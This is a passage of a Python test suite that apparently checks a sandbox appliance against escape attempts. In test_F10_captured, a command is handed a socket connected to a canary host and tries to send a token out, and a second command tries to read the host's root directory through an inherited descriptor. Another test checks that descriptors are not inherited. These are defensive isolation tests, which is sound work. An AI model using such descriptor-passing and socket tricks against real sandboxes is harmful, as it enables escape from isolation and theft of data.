        self.assertFalse(self.accepted(True))

    def test_F10_captured(self):
        """F10: the same through the form of exec that collects output, and a directory of the host"""
        token = self.new_token("f10-json")
        self.tokens.append(token)
        with socket.create_connection((CANARY4, PORT)) as s:
            s.settimeout(None)
            result = self.appliance.cli("exec", "--output", "json", self.sid, "--", "/usr/bin/python3", "-c",
                                        self.USE_SOCKET, token.decode(), CANARY4, str(PORT), cwd=self.tools, stdin=s)
            self.assertFalse(self.arrived(token), self.text(result))
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            for options in ((), ("--output", "json")):
                result = self.appliance.cli("exec", *options, self.sid, "--", "/usr/bin/python3", "-c",
                                            "import os; print('got', len(os.listdir(0)))", cwd=self.tools, stdin=root)
                self.assertNotIn(b"got ", result.stdout.replace(b"'got', len", b""), options)
                self.assertEqual(result.returncode, 2, self.text(result))
        finally:
            os.close(root)

    def test_F10_unix_stdin_passes(self):
        """Positive: a Unix stream socket pair is a pipe by another name and works"""
        ours, theirs = socket.socketpair()
        with ours, theirs:
            ours.sendall(b"by socket")
            ours.shutdown(socket.SHUT_WR)
            result = self.inside_with_stdin(["cat"], theirs)
        self.assertEqual(result.stdout, b"by socket", self.text(result))

    def test_F10_descriptors(self):
        """F10: nothing but the three standard descriptors is open in a command or can be inherited"""
        extra = os.open("/etc/hostname", os.O_RDONLY)
        os.set_inheritable(extra, True)
        self.addCleanup(os.close, extra)
        command = ["/usr/bin/python3", "-c", "import os; print([f for f in os.listdir('/proc/self/fd')])"]
        result = self.appliance.cli("exec", self.sid, "--", *command, cwd=self.tools, pass_fds=[extra])
        self.assertEqual(eval(result.stdout), ["0", "1", "2", "3"], self.text(result))  # 3 is the listing's own


if __name__ == "__main__":
    escape.main()
